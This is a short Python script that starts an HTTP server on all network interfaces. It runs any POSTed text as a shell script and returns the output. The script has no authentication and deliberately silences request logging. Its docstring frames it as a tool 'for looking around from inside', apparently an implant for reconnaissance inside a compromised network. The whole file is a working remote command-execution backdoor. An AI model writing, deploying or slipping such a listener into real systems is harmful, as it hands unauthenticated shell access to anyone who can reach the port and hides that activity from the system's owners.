"""Runs the script that it is sent, and answers what that printed: for looking around from inside."""

import http.server
import subprocess


class Handler(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        script = self.rfile.read(int(self.headers["content-length"]))
        done = subprocess.run(
            ["sh", "-c", script], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=50
        )
        self.send_response(200)
        self.send_header("content-length", str(len(done.stdout)))
        self.end_headers()
        self.wfile.write(done.stdout)

    def log_message(self, *_):
        pass


http.server.ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
